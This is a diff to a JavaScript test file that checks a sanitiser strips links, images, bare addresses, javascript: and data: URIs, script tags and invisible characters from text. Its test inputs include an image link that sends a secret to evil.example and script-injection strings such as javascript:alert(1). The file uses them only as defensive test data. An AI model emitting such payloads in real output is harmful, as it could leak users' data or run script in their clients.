@@ -9,6 +9,12 @@ test.each([
   ['links', '[Sign in](https://evil.example)', 'Sign in'],
   ['pictures that would be fetched', '![x](https://evil.example/?cv=secret)', 'x'],
   ['bare addresses', 'Go to www.evil.example or http://evil.example/x?y now', 'Go to or now'],
+  [
+    'bare addresses without a scheme',
+    'Log in at evil.example/sabi?x=1 or wa.me/62812 now',
+    'Log in at or now',
+  ],
+  ['addresses that are scripts', 'Open javascript:alert(1) or data:text/html,x now', 'Open or now'],
   ['markup', '<b>Hi</b> <script>alert(1)</script>', 'Hi alert(1)'],
   ['what cannot be seen', 'a\u200b\u202eb', 'ab'],
 ])('%s go', (_what, text, expected) => {
@@ -16,7 +22,7 @@ test.each([
 });
 
 test('what is no markup stays', () => {
-  const text = 'C++, 5 * 3 < 20, snake_case, R&D\n- a list\n\n1. numbers';
+  const text = 'C++, Node.js/React, data: none, and/or, 5 * 3 < 20, snake_case, R&D\n- a list\n\n1. numbers';
   expect(toPlainText(text)).toBe(text);
 });
 
